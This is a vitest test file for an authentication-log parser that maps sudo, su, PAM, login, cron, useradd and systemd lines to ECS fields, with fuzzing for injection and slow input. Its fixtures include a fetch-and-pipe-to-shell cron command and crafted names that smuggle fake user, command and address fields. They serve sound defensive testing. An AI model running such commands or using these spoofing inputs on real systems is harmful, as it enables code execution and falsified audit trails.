import { DAY, HOUR } from '@parapet/core'
import { generateLog } from '@parapet/testkit'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sshd } from '../sshd.js'
import { auth, syslog } from './auth.js'
import { context, isSound, said } from './fixtures/said.js'

fc.configureGlobal({ seed: 20_261_122 })

/** What a line of `program` says, without what every line of it has. */
const of = (program: string, message: string): Record<string, unknown> =>
  said(auth.parse(`Nov 22 03:04:05 web01 ${program}: ${message}`, context))

const SUDO = { dataset: 'sudo', category: 'process', action: 'sudo-command', outcome: 'success' }
const TAIL = 'TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u'

describe('a whole event', () => {
  it('has ECS fields, whoever wrote the line', () => {
    expect(auth.parse(`Nov 22 03:04:05 web01 sudo[12]:    alice : ${TAIL}`, context)).toEqual({
      '@timestamp': Date.UTC(2026, 10, 22, 3, 4, 5),
      'event.category': 'process',
      'event.action': 'sudo-command',
      'event.outcome': 'success',
      'event.dataset': 'sudo',
      message: `   alice : ${TAIL}`,
      'host.name': 'web01',
      'process.name': 'sudo',
      'process.pid': 12,
      'process.command_line': '/usr/bin/id -u',
      'process.working_directory': '/home/alice',
      'process.tty': 'pts/0',
      'user.name': 'alice',
      'user.target.name': 'root',
    })
  })

  it('has one shape for all programs but sshd, whose events are those of its own parser', () => {
    const lines = ['sudo: x', 'CRON[1]: (root) CMD (id)', 'kernel: x', 'vsftpd[1]: pam_unix(vsftpd:auth): check pass; user unknown', 'a: ']
    const shapes = lines.map((line) => Object.keys(auth.parse(`Nov 22 03:04:05 web01 ${line}`, context) ?? {}).join())
    expect(new Set(shapes).size).toBe(1)
    const login = 'Nov 22 03:04:05 web01 sshd[1]: Failed password for root from 198.18.0.1 port 1 ssh2'
    expect(auth.parse(login, context)).toEqual(sshd.parse(login, context))
  })

  it('says of a generated sshd log what the parser sshd says', () => {
    const lines = [...generateLog({ kind: 'ssh', lines: 400 }).lines].filter((line) => sshd.parse(line, context) !== undefined)
    expect(lines.length).toBeGreaterThan(200)
    for (const line of lines) expect(auth.parse(line, context)).toEqual(sshd.parse(line, context))
  })
})

describe('sudo', () => {
  it.each<[string, Record<string, unknown>]>([
    [`  alice : ${TAIL}`, { ...SUDO, user: 'alice', target: 'root', command: '/usr/bin/id -u' }],
    [
      'alice : TTY=pts/0 ; PWD=/home/alice ; USER=bob ; GROUP=adm ; ENV=A=b ; COMMAND=/bin/ls',
      { ...SUDO, user: 'alice', target: 'bob', group: 'adm', command: '/bin/ls' },
    ],
    ['alice : HOST=web01 ; TTY=unknown ; PWD=/ ; USER=root ; COMMAND=list', { ...SUDO, user: 'alice', target: 'root', command: 'list' }],
    [
      `alice : 3 incorrect password attempts ; ${TAIL}`,
      {
        ...SUDO,
        category: 'authentication',
        action: 'sudo',
        outcome: 'failure',
        reason: 'bad_password',
        user: 'alice',
        target: 'root',
        command: '/usr/bin/id -u',
      },
    ],
    [
      `alice : 1 incorrect password attempt ; ${TAIL}`,
      {
        ...SUDO,
        category: 'authentication',
        action: 'sudo',
        outcome: 'failure',
        reason: 'bad_password',
        user: 'alice',
        target: 'root',
        command: '/usr/bin/id -u',
      },
    ],
    ...(
      [
        ['user NOT in sudoers', 'not_in_sudoers'],
        ['user NOT authorized on host', 'not_authorized'],
        ['command not allowed', 'command_not_allowed'],
        ['a password is required', 'password_required'],
        ['no tty present and no askpass program specified', 'no_terminal'],
        ['something of a version to come', 'other'],
      ] as const
    ).map(
      ([words, reason]) =>
        [
          `alice : ${words} ; ${TAIL}`,
          { ...SUDO, action: 'sudo-refused', outcome: 'failure', reason, user: 'alice', target: 'root', command: '/usr/bin/id -u' },
        ] as [string, Record<string, unknown>],
    ),
    [
      'alice : (command continued) --more --args',
      { ...SUDO, outcome: 'unknown', reason: 'continued', user: 'alice', command: '--more --args' },
    ],
    [
      'pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice',
      {
        dataset: 'pam',
        category: 'authentication',
        action: 'login-step',
        outcome: 'failure',
        reason: 'bad_password',
        service: 'sudo',
        user: 'alice',
        target: 'alice',
      },
    ],
  ])('%s', (message, expected) => {
    const { outcome, ...rest } = expected
    expect(of('sudo', message)).toEqual(outcome === 'unknown' ? rest : expected)
  })

  it('hides nothing of a command that imitates the fields of sudo, and then names no target', () => {
    const event = of('sudo', "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/echo ' ; USER=nobody ; COMMAND=/bin/true'")
    expect(event['command']).toBe("/bin/echo ' ; USER=nobody ; COMMAND=/bin/true'")
    expect(event['target']).toBeUndefined()
  })

  it('shows the real command behind a folder that imitates fields', () => {
    const event = of('sudo', 'alice : TTY=pts/0 ; PWD=/tmp/x ; USER=nobody ; COMMAND=/bin/true ; USER=root ; COMMAND=/bin/sh')
    expect(event['command']).toContain('COMMAND=/bin/sh')
    expect(event['target']).toBeUndefined()
    expect(event['user']).toBe('alice')
  })

  it('reads a command that looks like a new line as one command', () => {
    const event = of('sudo', 'alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo #012Nov 22 03:04:05 web01 sudo:  bob : TTY=x')
    expect(event).toMatchObject({ user: 'alice', target: 'root' })
    expect(event['command']).toContain('sudo:  bob')
  })

  it('takes a refusal for one only where sudo wrote it, not where a command says so', () => {
    expect(of('sudo', 'alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo user NOT in sudoers')).toMatchObject({
      action: 'sudo-command',
    })
  })
})

describe('su', () => {
  const SU = { dataset: 'su', category: 'authentication', action: 'su' }
  const failed = { ...SU, outcome: 'failure', reason: 'refused' }
  it.each<[string, Record<string, unknown>]>([
    ['(to root) alice on pts/0', { ...SU, outcome: 'success', user: 'alice', target: 'root' }],
    ['(to bob) root on none', { ...SU, outcome: 'success', user: 'root', target: 'bob' }],
    ['FAILED SU (to root) alice on pts/0', { ...failed, user: 'alice', target: 'root' }],
    ['Successful su for root by alice', { ...SU, outcome: 'success', user: 'alice', target: 'root' }],
    ['FAILED su for root by alice', { ...failed, user: 'alice', target: 'root' }],
    ['BAD SU alice to root on /dev/ttyp0', { ...failed, user: 'alice', target: 'root' }],
    ['+ /dev/pts/0 alice:root', { ...SU, action: 'su-step', outcome: 'success', user: 'alice', target: 'root' }],
    ['- /dev/pts/0 alice:root', { ...SU, action: 'su-step', outcome: 'failure', user: 'alice', target: 'root' }],
    ['pam_authenticate: Authentication failure', { dataset: 'su', category: 'process', action: 'message' }],
    // names that somebody asked for and that look like the rest of the line
    ['FAILED su for root by attacker by alice', { ...failed, user: 'alice', target: 'root by attacker' }],
    ['FAILED SU (to root) bob on pts/9) alice on pts/0', { ...failed, user: 'alice', target: 'root) bob on pts/9' }],
    ['FAILED SU (to x) root on tty1) alice on pts/0', { ...failed, user: 'alice', target: 'x) root on tty1' }],
    ['- pts/0 alice:root:x', { ...SU, action: 'su-step', outcome: 'failure', user: 'alice', target: 'root:x' }],
  ])('%s', (message, expected) => {
    expect(of('su[9]', message)).toEqual(expected)
  })

  it('names the same actor for every name that somebody may ask for', () => {
    const name = fc.string({ unit: fc.constantFrom('a', ' ', ')', '(', ' on ', ' by ', ':', 'root'), maxLength: 12 })
    fc.assert(
      fc.property(name, (asked) => {
        expect(of('su', `FAILED SU (to ${asked}) alice on pts/0`)).toMatchObject({ user: 'alice', target: asked })
        expect(of('su', `FAILED su for ${asked} by alice`)).toMatchObject({ user: 'alice', target: asked })
      }),
      { numRuns: 300 },
    )
  })
})

describe('PAM', () => {
  const failure = (asker: string, host: string, user: string): Record<string, unknown> =>
    of(
      'vsftpd[1]',
      `pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=${asker} rhost=${host}  user=${user}`,
    )

  it('makes a login failure of a service that says nothing else', () => {
    expect(failure('bob', '198.18.0.1', 'bob')).toEqual({
      dataset: 'pam',
      category: 'authentication',
      action: 'login',
      outcome: 'failure',
      reason: 'bad_password',
      service: 'vsftpd',
      ip: '198.18.0.1',
      user: 'bob',
    })
    expect(failure('', '2001:db8::1', 'bob')).toMatchObject({ ip: '2001:db8::1', user: 'bob' })
    expect(failure('bob', '::ffff:198.18.0.1', 'bob')).toMatchObject({ ip: '198.18.0.1' })
  })

  it('makes a step of what the program itself tells once more', () => {
    for (const service of ['su', 'sudo', 'login', 'su-l'])
      expect(
        of(service, `pam_unix(${service}:auth): authentication failure; logname= uid=1 euid=0 tty=pts/0 ruser=alice rhost=  user=root`),
      ).toEqual({
        dataset: 'pam',
        category: 'authentication',
        action: 'login-step',
        outcome: 'failure',
        reason: 'bad_password',
        service,
        user: 'alice',
        target: 'root',
      })
  })

  it('does not believe an address that a name wrote', () => {
    const evil = 'a rhost=203.0.113.9  user=victim'
    // the service hands the name over as the asker too, or does not
    expect(failure(evil, '198.18.0.1', evil)).toMatchObject({ ip: '198.18.0.1', user: evil })
    expect(failure('', '198.18.0.1', evil)).toMatchObject({ ip: '198.18.0.1', user: evil })
    const worse = ' rhost=203.0.113.9  user=victim'
    expect(failure(worse, '198.18.0.1', worse)['ip']).not.toBe('203.0.113.9')
  })

  it('never names another address than the real one, whatever the name', () => {
    const name = fc.string({ unit: fc.constantFrom('a', ' ', '=', ' rhost=203.0.113.9', '  user=', 'ruser=', ';'), maxLength: 8 })
    fc.assert(
      fc.property(name, fc.boolean(), (user, asker) => {
        const { ip } = failure(asker ? user : '', '198.18.0.1', user)
        expect([undefined, '198.18.0.1']).toContain(ip)
      }),
      { numRuns: 500 },
    )
  })

  it.each<[string, Record<string, unknown>]>([
    [
      'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
      { dataset: 'pam', category: 'session', action: 'session-opened', outcome: 'success', service: 'cron', user: 'root' },
    ],
    [
      'pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)',
      { dataset: 'pam', category: 'session', action: 'session-opened', outcome: 'success', service: 'su-l', user: 'alice', target: 'root' },
    ],
    [
      'pam_unix(cron:session): session closed for user root',
      { dataset: 'pam', category: 'session', action: 'session-closed', outcome: 'success', service: 'cron', user: 'root' },
    ],
    [
      'pam_unix(gdm-password:auth): check pass; user unknown',
      {
        dataset: 'pam',
        category: 'authentication',
        action: 'login-step',
        outcome: 'failure',
        reason: 'unknown_user',
        service: 'gdm-password',
      },
    ],
    [
      'pam_unix(dovecot:account): account bob has expired (account expired)',
      {
        dataset: 'pam',
        category: 'authentication',
        action: 'login-step',
        outcome: 'failure',
        reason: 'expired',
        service: 'dovecot',
        user: 'bob',
      },
    ],
    [
      'pam_faillock(x:auth): Consecutive login failures for user bob account temporarily locked',
      { dataset: 'pam', category: 'host', action: 'message', service: 'x' },
    ],
    ['pam_unix: no brackets', { dataset: 'syslog', category: 'host', action: 'message' }],
  ])('%s', (message, expected) => {
    expect(of('other[1]', message)).toEqual(expected)
  })
})

describe('login', () => {
  const FAILED = { dataset: 'login', category: 'authentication', action: 'login', outcome: 'failure', reason: 'bad_password' }
  it.each<[string, Record<string, unknown>]>([
    ["FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", { ...FAILED, user: 'root' }],
    [
      "FAILED LOGIN (2) on '/dev/tty1' FOR 'UNKNOWN', User not known to the underlying authentication module",
      { ...FAILED, reason: 'unknown_user', user: 'UNKNOWN' },
    ],
    ["FAILED LOGIN (1) on '/dev/pts/3' FROM '198.18.0.1' FOR 'bob', Authentication failure", { ...FAILED, ip: '198.18.0.1', user: 'bob' }],
    [
      "TOO MANY LOGIN TRIES (5) on '/dev/tty1' FOR 'bob', Have exhausted maximum number of retries for service.",
      { ...FAILED, action: 'login-step', reason: 'too_many_tries', user: 'bob' },
    ],
    ["ROOT LOGIN  on '/dev/tty1'", { dataset: 'login', category: 'authentication', action: 'login', outcome: 'success', user: 'root' }],
    ['ROOT LOGIN ON tty1', { dataset: 'login', category: 'authentication', action: 'login', outcome: 'success', user: 'root' }],
    ['LOGIN ON tty1 BY alice', { dataset: 'login', category: 'authentication', action: 'login', outcome: 'success', user: 'alice' }],
    [
      'LOGIN ON pts/1 BY alice FROM 198.18.0.7',
      { dataset: 'login', category: 'authentication', action: 'login', outcome: 'success', user: 'alice', ip: '198.18.0.7' },
    ],
    // a name that looks like the end of the line
    [
      "FAILED LOGIN (1) on '/dev/tty1' FOR 'x', Authentication failure FOR 'root', Authentication failure",
      { ...FAILED, user: "x', Authentication failure FOR 'root" },
    ],
    // and one that brings an address
    [
      "FAILED LOGIN (1) on '/dev/tty1' FOR 'x FROM '203.0.113.9' FOR 'y', Authentication failure",
      { ...FAILED, user: "x FROM '203.0.113.9' FOR 'y" },
    ],
  ])('%s', (message, expected) => {
    expect(of('login[3]', message)).toEqual(expected)
  })

  it('knows the terminal', () => {
    const tty = (message: string): unknown => auth.parse(`Nov 22 03:04:05 web01 login[3]: ${message}`, context)?.['process.tty']
    expect(tty("FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure")).toBe('/dev/tty1')
    expect(tty('ROOT LOGIN ON tty2')).toBe('tty2')
    expect(tty("ROOT LOGIN  on '/dev/tty3'")).toBe('/dev/tty3')
  })
})

describe('cron', () => {
  const CRON = { dataset: 'cron', outcome: 'success' }
  it.each<[string, string, Record<string, unknown>]>([
    [
      'CRON[1]',
      '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
      { ...CRON, category: 'process', action: 'cron-command', user: 'root', command: 'cd / && run-parts --report /etc/cron.hourly' },
    ],
    [
      'crond[1]',
      '(bob) CMD (echo ")" (x))',
      { ...CRON, category: 'process', action: 'cron-command', user: 'bob', command: 'echo ")" (x)' },
    ],
    ['/USR/SBIN/CRON[1]', '(root) CMD (x)', { ...CRON, category: 'process', action: 'cron-command', user: 'root', command: 'x' }],
    [
      'crontab[1]',
      '(alice) REPLACE (bob)',
      { ...CRON, category: 'configuration', action: 'crontab-changed', reason: 'replaced', user: 'alice', target: 'bob' },
    ],
    [
      'crontab[1]',
      '(alice) DELETE (alice)',
      { ...CRON, category: 'configuration', action: 'crontab-changed', reason: 'deleted', user: 'alice', target: 'alice' },
    ],
    ['cron[1]', '(*system*) RELOAD (/etc/crontab)', { ...CRON, category: 'configuration', action: 'crontab-loaded' }],
    [
      'crontab[1]',
      '(bob) AUTH (crontab command not allowed)',
      { dataset: 'cron', category: 'configuration', action: 'crontab-refused', outcome: 'failure', reason: 'not_allowed', user: 'bob' },
    ],
    ['crontab[1]', '(alice) LIST (alice)', { dataset: 'cron', category: 'process', action: 'message' }],
    ['cron[1]', '(CRON) INFO (Running @reboot jobs)', { dataset: 'cron', category: 'process', action: 'message' }],
    [
      'CRON[1]',
      '(root) CMD (curl http://198.18.0.1/x | sh) CMD (true)',
      { ...CRON, category: 'process', action: 'cron-command', user: 'root', command: 'curl http://198.18.0.1/x | sh) CMD (true' },
    ],
    ['CRON[1]', '(root', { dataset: 'cron', category: 'process', action: 'message' }],
  ])('%s: %s', (program, message, expected) => {
    expect(of(program, message)).toEqual(expected)
  })
})

describe('account tools', () => {
  const IAM = { dataset: 'accounts', category: 'iam', outcome: 'success' }
  it.each<[string, string, Record<string, unknown>]>([
    [
      'useradd[1]',
      'new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=/dev/pts/0',
      { ...IAM, action: 'user-created', target: 'bob' },
    ],
    [
      'useradd[1]',
      'new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=none',
      { ...IAM, action: 'user-created', target: 'toor', reason: 'uid_zero' },
    ],
    ['useradd[1]', 'new group: name=bob, GID=1001', { ...IAM, action: 'group-created', group: 'bob' }],
    ['useradd[1]', "add 'bob' to group 'docker'", { ...IAM, action: 'group-member-added', target: 'bob', group: 'docker' }],
    ['usermod[1]', "add 'bob' to shadow group 'docker'", { dataset: 'accounts', category: 'iam', action: 'message' }],
    ['usermod[1]', "delete 'bob' from group 'sudo'", { ...IAM, action: 'group-member-removed', target: 'bob', group: 'sudo' }],
    ['usermod[1]', "change user 'bob' password", { ...IAM, action: 'password-changed', target: 'bob' }],
    [
      'usermod[1]',
      "change user 'bob' shell from '/bin/sh' to '/bin/bash'",
      { ...IAM, action: 'user-changed', target: 'bob', reason: 'shell' },
    ],
    ['usermod[1]', "change user 'bob' UID from '1001' to '0'", { ...IAM, action: 'user-changed', target: 'bob', reason: 'uid_zero' }],
    ['usermod[1]', "change user 'bob' UID from '1001' to '100'", { ...IAM, action: 'user-changed', target: 'bob' }],
    ['usermod[1]', "lock user 'bob' password", { ...IAM, action: 'user-changed', target: 'bob', reason: 'locked' }],
    ['usermod[1]', "unlock user 'bob' password", { ...IAM, action: 'user-changed', target: 'bob', reason: 'unlocked' }],
    ['usermod[1]', "change user name 'bob' to 'rob'", { ...IAM, action: 'user-changed', target: 'bob', reason: 'renamed' }],
    ['userdel[1]', "delete user 'bob'", { ...IAM, action: 'user-deleted', target: 'bob' }],
    ['groupdel[1]', "group 'x' removed", { ...IAM, action: 'group-deleted', group: 'x' }],
    ['groupdel[1]', "group 'x' removed from /etc/gshadow", { dataset: 'accounts', category: 'iam', action: 'message' }],
    [
      'gpasswd[1]',
      'user bob added by root to group sudo',
      { ...IAM, action: 'group-member-added', user: 'root', target: 'bob', group: 'sudo' },
    ],
    [
      'gpasswd[1]',
      'user bob removed by root from group sudo',
      { ...IAM, action: 'group-member-removed', user: 'root', target: 'bob', group: 'sudo' },
    ],
    [
      'gpasswd[1]',
      'members of group sudo set by root to alice,bob',
      { ...IAM, action: 'group-member-added', reason: 'members_set', user: 'root', target: 'alice,bob', group: 'sudo' },
    ],
    [
      'passwd[1]',
      'pam_unix(passwd:chauthtok): password changed for bob',
      { ...IAM, action: 'password-changed', target: 'bob', service: 'passwd' },
    ],
    [
      'chpasswd[1]',
      'pam_unix(chpasswd:chauthtok): password changed for root',
      { ...IAM, action: 'password-changed', target: 'root', service: 'chpasswd' },
    ],
    ['passwd[1]', "password for 'bob' changed by 'root'", { ...IAM, action: 'password-changed', user: 'root', target: 'bob' }],
    ['chage[1]', 'changed password expiry for bob', { ...IAM, action: 'user-changed', target: 'bob', reason: 'expiry' }],
    ['chfn[1]', "changed user 'bob' information", { ...IAM, action: 'user-changed', target: 'bob' }],
    ['useradd[1]', "failed adding user 'bob', exit code: 9", { ...IAM, action: 'user-created', outcome: 'failure', target: 'bob' }],
    ['useradd[1]', 'new user: UID=0', { ...IAM, action: 'user-created' }],
  ])('%s: %s', (program, message, expected) => {
    expect(of(program, message)).toEqual(expected)
  })
})

describe('systemd', () => {
  const UNIT = { dataset: 'systemd', category: 'process' }
  it.each<[string, Record<string, unknown>]>([
    [
      'Started nginx.service - A high performance web server.',
      { ...UNIT, action: 'service-started', outcome: 'success', service: 'nginx.service' },
    ],
    [
      'Stopped auditd.service - Security Auditing Service.',
      { ...UNIT, action: 'service-stopped', outcome: 'success', service: 'auditd.service' },
    ],
    [
      'Stopped Security Auditing Service.',
      { ...UNIT, action: 'service-stopped', outcome: 'success', service: 'Security Auditing Service' },
    ],
    [
      'Stopped LSB: disk - a description with a dash.',
      { ...UNIT, action: 'service-stopped', outcome: 'success', service: 'LSB: disk - a description with a dash' },
    ],
    [
      "nginx.service: Failed with result 'exit-code'.",
      { ...UNIT, action: 'service-failed', outcome: 'failure', reason: 'exit-code', service: 'nginx.service' },
    ],
    ['Failed to start nginx.service - A high performance web server.', { ...UNIT, action: 'message' }],
    ['Stopping nginx.service - A high performance web server...', { ...UNIT, action: 'message' }],
    ["a b: Failed with result 'x'.", { ...UNIT, action: 'message' }],
  ])('%s', (message, expected) => {
    expect(of('systemd[1]', message)).toEqual(expected)
  })
})

describe('lines of other programs', () => {
  it('are messages of syslog, never nothing', () => {
    expect(of('kernel', '[ 12.3] IPv4: martian source')).toEqual({ dataset: 'syslog', category: 'host', action: 'message' })
    expect(auth.parse('Nov 22 03:04:05 web01 app[7]: {"a":1}', context)).toMatchObject({
      message: '{"a":1}',
      'process.name': 'app',
      'process.pid': 7,
    })
  })

  it('are read inside a line that rsyslog folded', () => {
    expect(of('su', 'message repeated 2 times: [ FAILED SU (to root) alice on pts/0]')).toMatchObject({
      action: 'su',
      outcome: 'failure',
      user: 'alice',
    })
  })

  it('do not imitate a program by what they say', () => {
    expect(of('app', `sudo: alice : ${TAIL}`)).toMatchObject({ dataset: 'syslog', action: 'message' })
    expect(of('app', 'Nov 22 03:04:05 web01 sshd[7]: Failed password for root from 198.18.0.1 port 1 ssh2')).toMatchObject({
      dataset: 'syslog',
    })
  })
})

describe('stamps without a year', () => {
  const timeAt = (line: string, now: number): number | undefined => auth.parse(line, { now })?.['@timestamp']
  it('are read over the end of a year, at midnight and on a leap day', () => {
    const newYear = Date.UTC(2027, 0, 1, 0, 0, 10)
    expect(timeAt('Dec 31 23:59:59 h su: x', newYear)).toBe(Date.UTC(2026, 11, 31, 23, 59, 59))
    expect(timeAt('Jan  1 00:00:00 h su: x', newYear)).toBe(Date.UTC(2027, 0, 1))
    expect(timeAt('Feb 29 12:00:00 h su: x', newYear)).toBe(Date.UTC(2024, 1, 29, 12))
    expect(timeAt('Jan  1 06:00:00 h su: x', newYear)).toBe(Date.UTC(2027, 0, 1, 6))
    expect(timeAt('Jan  3 00:00:00 h su: x', newYear + HOUR)).toBe(Date.UTC(2026, 0, 3))
    expect(timeAt('Feb 29 12:00:00 h su: x', Date.UTC(2028, 2, 1) + DAY)).toBe(Date.UTC(2028, 1, 29, 12))
  })

  it('are of the zone that the reader is told', () => {
    expect(auth.parse('Nov 22 03:04:05 h su: x', { ...context, utcOffsetMinutes: 90 })?.['@timestamp']).toBe(
      Date.UTC(2026, 10, 22, 1, 34, 5),
    )
  })
})

describe('recognising', () => {
  it('takes lines of known programs for auth, any framed line for syslog', () => {
    const known = ['sudo: x', 'sshd[1]: x', 'CRON[1]: x', 'systemd[1]: x', 'x: pam_unix(x:auth): y'].map(
      (line) => `Nov 22 03:04:05 web01 ${line}`,
    )
    for (const line of known) expect([auth.sniff(line), syslog.sniff(line)]).toEqual([true, true])
    expect([auth.sniff('Nov 22 03:04:05 web01 app: x'), syslog.sniff('Nov 22 03:04:05 web01 app: x')]).toEqual([false, true])
    for (const line of ['', 'sudo: x', '<13>x', '{"a":1}']) expect([auth.sniff(line), syslog.sniff(line)]).toEqual([false, false])
  })
})

describe('hostile lines', () => {
  const program = fc.constantFrom('sudo', 'su', 'login', 'CRON', 'useradd', 'gpasswd', 'passwd', 'systemd', 'app', 'sshd')
  const words = fc.constantFrom(
    ' : ',
    ' ; USER=',
    ' ; COMMAND=',
    'TTY=',
    '(to ',
    ') ',
    ' on ',
    ' by ',
    'FAILED ',
    "FOR '",
    "', ",
    '(',
    'CMD ',
    'pam_x(',
    '): ',
    'authentication failure; ',
    ' ruser=',
    ' rhost=',
    '  user=',
    'session opened for user ',
    'new user: name=',
    "add '",
    "' to group '",
    'Started ',
    ' - ',
    '.',
    'a',
    '\0',
    '\u001b',
    '\ufffd',
  )

  it('never throw and never give more than they hold', () => {
    fc.assert(
      fc.property(program, fc.array(words, { maxLength: 20 }), (name, parts) => {
        expect(isSound(auth.parse(`Nov 22 03:04:05 h ${name}: ${parts.join('')}`, context))).toBe(true)
      }),
      { numRuns: 2_000 },
    )
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (line) => isSound(auth.parse(line, context))),
      { numRuns: 500 },
    )
  })

  it('of more than 8 KiB are cut', () => {
    const event = auth.parse(`Nov 22 03:04:05 h sudo: alice : TTY=x ; PWD=/ ; USER=root ; COMMAND=${'a'.repeat(20_000)}`, context)
    expect(isSound(event)).toBe(true)
    expect(event).toMatchObject({ 'user.name': 'alice', 'event.action': 'sudo-command' })
  })

  it.each([' ; USER=', ' rhost=', '): ', '(to ', ' on ', 'authentication failure; ', "', "])(
    'made of %j cost well under a millisecond',
    (literal) => {
      for (const name of ['sudo', 'su', 'login', 'vsftpd']) {
        const start = name === 'vsftpd' ? 'pam_unix(vsftpd:auth): authentication failure; x ruser=' : 'FAILED SU (to '
        const line = `Nov 22 03:04:05 h ${name}: ${start}${literal.repeat(8_000 / literal.length)}`
        for (let warm = 0; warm < 20; warm++) auth.parse(line, context)
        const spent = Array.from({ length: 30 }, () => {
          const before = performance.now()
          auth.parse(line, context)
          return performance.now() - before
        })
        expect(spent.toSorted((a, b) => a - b)[10]).toBeLessThan(1)
      }
    },
  )
})
